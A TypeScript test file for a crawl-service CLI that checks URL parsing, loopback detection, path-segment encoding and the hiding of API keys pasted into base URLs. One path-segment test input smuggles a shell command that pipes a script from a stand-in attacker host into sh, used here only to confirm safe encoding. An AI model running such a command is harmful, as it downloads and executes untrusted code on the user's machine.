import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { runCli } from '../support/harness.js';
import { findKey } from '../support/key-forms.js';
import { envOf, settingsSuite } from '../support/settings.js';
import { buildUrl, checkPathSegment, checkTransport, displayUrl, isLoopbackHost, parseBaseUrl, pathSegmentProblem, sameOrigin } from '../../src/http/url.js';

describe('parseBaseUrl', () => {
  it('normalises to a folder URL without query or fragment', () => {
    expect(parseBaseUrl('https://crawl.example.com').href).toBe('https://crawl.example.com/');
    expect(parseBaseUrl(' https://crawl.example.com/v1?x=1#top ').href).toBe('https://crawl.example.com/v1/');
  });

  it('refuses what is not an http(s) URL, or carries credentials', () => {
    for (const bad of ['crawl.example.com', 'ftp://crawl.example.com', 'file:///etc/passwd', '']) {
      expect(() => parseBaseUrl(bad), bad).toThrow(UsageError);
    }
    expect(() => parseBaseUrl('https://user:pw@crawl.example.com')).toThrow(/credentials/);
  });
});

describe('isLoopbackHost and checkTransport', () => {
  it('knows loopback names and addresses', () => {
    for (const host of ['localhost', 'api.localhost', '127.0.0.1', '127.9.8.7', '[::1]', '::1', '::ffff:127.0.0.1']) {
      expect(isLoopbackHost(host), host).toBe(true);
    }
  });

  it('does not mistake look-alikes for loopback', () => {
    for (const host of ['127.0.0.1.evil.example', 'localhost.evil.example', '10.0.0.1', '[::2]', 'example.invalid', '128.0.0.1']) {
      expect(isLoopbackHost(host), host).toBe(false);
    }
  });

  it('refuses plain http to a remote host unless allowed; https and loopback always pass', () => {
    expect(() => checkTransport(new URL('http://example.invalid/'), false)).toThrow(/plain http/);
    expect(() => checkTransport(new URL('http://example.invalid/'), true)).not.toThrow();
    expect(() => checkTransport(new URL('https://example.invalid/'), false)).not.toThrow();
    expect(() => checkTransport(new URL('http://127.0.0.1:8787/'), false)).not.toThrow();
    expect(() => checkTransport(new URL('http://[::1]:8787/'), false)).not.toThrow();
  });
});

describe('buildUrl', () => {
  const base = parseBaseUrl('https://crawl.example.com/v1');

  it('keeps the base path and appends encoded segments', () => {
    expect(buildUrl(base, ['api', 'crawl', 'job_1']).href).toBe('https://crawl.example.com/v1/api/crawl/job_1');
  });

  it('keeps an id with /, .., ?, #, % or spaces as exactly one segment', () => {
    const url = buildUrl(base, ['api', 'crawl', 'a/../b?c#d %e']);
    expect(url.pathname).toBe('/v1/api/crawl/a%2F..%2Fb%3Fc%23d%20%25e');
    expect(url.search).toBe('');
    expect(url.hash).toBe('');
  });

  it('refuses ids that no encoding keeps in place: empty, "." and ".."', () => {
    for (const id of ['', '.', '..']) {
      expect(() => buildUrl(base, ['api', 'crawl', id]), JSON.stringify(id)).toThrow(UsageError);
    }
    expect(buildUrl(base, ['api', 'crawl', '...']).pathname).toBe('/v1/api/crawl/...');
  });

  it('never lets any id leave /v1/api/crawl/ or touch the query', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 40 }), (id) => {
        if (id === '.' || id === '..') return;
        const url = buildUrl(base, ['api', 'crawl', id]);
        expect(url.origin).toBe('https://crawl.example.com');
        expect(url.pathname.startsWith('/v1/api/crawl/')).toBe(true);
        expect(url.pathname.slice('/v1/api/crawl/'.length)).not.toContain('/');
        expect(decodeURIComponent(url.pathname.slice('/v1/api/crawl/'.length))).toBe(id);
        expect(url.search).toBe('');
      }),
    );
  });

  it('adds query parameters, skipping undefined ones', () => {
    const url = buildUrl(base, ['api', 'crawl', 'j', 'pages'], { cursor: 'a&b=c', limit: 5, skip: undefined });
    expect(url.search).toBe('?cursor=a%26b%3Dc&limit=5');
  });
});

describe('sameOrigin and displayUrl', () => {
  it('compares scheme, host and port', () => {
    const a = new URL('https://crawl.example.com/api');
    expect(sameOrigin(a, new URL('https://crawl.example.com:443/other'))).toBe(true);
    expect(sameOrigin(a, new URL('http://crawl.example.com/api'))).toBe(false);
    expect(sameOrigin(a, new URL('https://crawl.example.com:8443/api'))).toBe(false);
    expect(sameOrigin(a, new URL('https://cdn.example.com/api'))).toBe(false);
  });

  it('shows no fragment', () => {
    expect(displayUrl(new URL('https://h.example/p?q=1#frag'))).toBe('https://h.example/p?q=1');
  });
});

describe('path segments', () => {
  it('refuses what cannot be one segment, before any URL is built', () => {
    for (const bad of ['', '.', '..', '\ud800', 'a\udc00b']) {
      expect(pathSegmentProblem(bad), JSON.stringify(bad)).toBeDefined();
      expect(() => checkPathSegment(bad)).toThrow(UsageError);
      expect(() => buildUrl(new URL('https://x.example/'), ['api', 'keys', bad])).toThrow(UsageError);
    }
  });

  it('takes anything else, encoded as one segment', () => {
    for (const good of ['...', 'a/../b', '%2e%2e', 'key_1; curl -s evil.example | sh #', '\ud83d\ude00', ' ']) {
      expect(pathSegmentProblem(good), JSON.stringify(good)).toBeUndefined();
      const url = buildUrl(new URL('https://x.example/v1/'), ['api', 'keys', good]);
      expect(url.pathname.split('/')).toHaveLength(5);
      expect(decodeURIComponent(url.pathname.split('/')[4] ?? '')).toBe(good);
    }
  });
});

describe('a base URL holding a key', () => {
  const suite = settingsSuite();

  it.concurrent('a key pasted into the base URL is shown nowhere: not in the message, not in the hint, in whatever way the URL came', async ({ expect }) => {
    const host = new URL(suite.fx.sandbox.url).host;
    const other = 'crk_' + 'PastedNotConfigured0123456789abcdef';
    const dir = suite.folders.fresh();
    const cases: Array<{ key: string; argv: string[]; env: Record<string, string | undefined> }> = [
      // The configured key, as user:password and as the user alone; another key; a port that makes it no URL at all.
      { key: suite.fx.sandbox.key, argv: ['job', 'demo', '--base-url', `http://user:${suite.fx.sandbox.key}@${host}`], env: { CRAWL_API_KEY: suite.fx.sandbox.key } },
      { key: suite.fx.sandbox.key, argv: ['job', 'demo', '--json', '--base-url', `http://${suite.fx.sandbox.key}@${host}`], env: { CRAWL_API_KEY: suite.fx.sandbox.key } },
      { key: other, argv: ['job', 'demo', '--base-url', `http://user:${other}@${host}`], env: { CRAWL_API_KEY: suite.fx.sandbox.key } },
      { key: other, argv: ['job', 'demo', '--base-url', `http://user:${other}@${host}:99999`], env: { CRAWL_API_KEY: suite.fx.sandbox.key } },
      { key: other, argv: ['job', 'demo'], env: { CRAWL_BASE_URL: `http://user:${other}@${host}`, CRAWL_API_KEY: suite.fx.sandbox.key } },
      { key: other, argv: ['keys', 'list', '--profile', 'p'], env: { CRAWL_BASE_URL: `http://user:${other}@${host}`, CRAWL_API_KEY: suite.fx.sandbox.key } },
    ];
    const results = await Promise.all(cases.map(({ argv, env }) => runCli(argv, { env: envOf({ CRAWL_CONFIG_DIR: dir, ...env }) })));
    for (const [i, r] of results.entries()) {
      expect(r.code, `case ${i}`).toBe(2);
      expect(findKey(r.stdout + r.stderr, cases[i]?.key ?? ''), `case ${i}: ${r.stderr}`).toBeUndefined();
      expect(r.stderr, `case ${i}`).toMatch(/base URL/);
    }
    // The hint still names the service, without the user and password.
    expect(results[0]?.stderr).toContain(`hint: store the key with \`crawl --base-url http://${host}/ auth login\``);
  });

});
